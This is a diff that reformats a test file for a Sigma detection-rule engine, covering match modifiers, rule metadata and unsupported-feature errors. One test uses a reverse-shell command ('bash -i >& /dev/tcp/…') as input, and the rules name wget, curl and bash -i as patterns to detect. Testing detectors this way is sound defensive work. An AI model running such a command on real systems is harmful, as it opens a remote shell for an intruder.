@@ -26,7 +26,9 @@ describe('sigma values and modifiers', () => {
   });
 
   it('contains, startswith, endswith; a list is any of its values, `all` is every one', () => {
-    const r = rule('  a:\n    CommandLine|contains: [wget, curl]\n  b:\n    CommandLine|startswith: sudo\n  c:\n    CommandLine|endswith: .sh\n  d:\n    CommandLine|contains|all: [bash, "-i"]\n  condition: (a and b and c) or d\n');
+    const r = rule(
+      '  a:\n    CommandLine|contains: [wget, curl]\n  b:\n    CommandLine|startswith: sudo\n  c:\n    CommandLine|endswith: .sh\n  d:\n    CommandLine|contains|all: [bash, "-i"]\n  condition: (a and b and c) or d\n',
+    );
     expect(r.matches(ev({ CommandLine: 'sudo CURL http://x/a.sh' }))).toBe(true);
     expect(r.matches(ev({ CommandLine: 'curl http://x/a.sh' }))).toBe(false);
     expect(r.matches(ev({ CommandLine: 'bash -i >& /dev/tcp/1.2.3.4/4444' }))).toBe(true);
@@ -115,7 +117,13 @@ describe('sigma conditions', () => {
 
   it('carries the rule metadata the alert needs', () => {
     const r = rule('  a:\n    A: 1\n  condition: a\n', 'level: high\ntags: [attack.t1110.001, attack.credential-access]\n');
-    expect({ id: r.id, title: r.title, level: r.level, tags: r.tags, logsource: r.logsource }).toEqual({ id: 'x', title: 't', level: 'high', tags: ['attack.t1110.001', 'attack.credential-access'], logsource: { product: 'linux' } });
+    expect({ id: r.id, title: r.title, level: r.level, tags: r.tags, logsource: r.logsource }).toEqual({
+      id: 'x',
+      title: 't',
+      level: 'high',
+      tags: ['attack.t1110.001', 'attack.credential-access'],
+      logsource: { product: 'linux' },
+    });
   });
 });
 
@@ -126,7 +134,9 @@ describe('sigma refusals name file:line:col', () => {
     expect(errorsOf(`${head}  condition: "sel near sel"\n`)).toEqual(['bad.yml:6:19: condition: `near` is not supported']);
   });
   it('unknown modifiers, at their key', () => {
-    expect(errorsOf('title: t\nlogsource: {product: linux}\ndetection:\n  sel:\n    A: 1\n    B|fieldref: A\n  condition: sel\n')).toEqual([expect.stringMatching(/^bad\.yml:6:5: unsupported modifier "fieldref"/)]);
+    expect(errorsOf('title: t\nlogsource: {product: linux}\ndetection:\n  sel:\n    A: 1\n    B|fieldref: A\n  condition: sel\n')).toEqual([
+      expect.stringMatching(/^bad\.yml:6:5: unsupported modifier "fieldref"/),
+    ]);
   });
   it('correlation rules, timeframe, rule collections', () => {
     expect(errorsOf('title: t\ncorrelation:\n  type: event_count\n')[0]).toBe('bad.yml:2:1: correlation rules are not supported');
